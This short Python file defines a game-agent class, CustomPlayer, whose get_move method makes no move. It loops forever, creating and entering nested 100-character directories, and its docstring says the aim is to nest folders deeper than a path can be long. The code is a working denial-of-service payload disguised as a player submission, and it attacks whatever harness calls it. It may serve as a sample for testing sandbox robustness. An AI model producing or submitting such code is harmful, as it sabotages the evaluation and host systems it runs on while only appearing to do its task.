"""Nests folders deeper than a path can be long."""

import os


class CustomPlayer:
    def get_move(self, game, time_left):
        while True:
            os.mkdir("a" * 100)
            os.chdir("a" * 100)
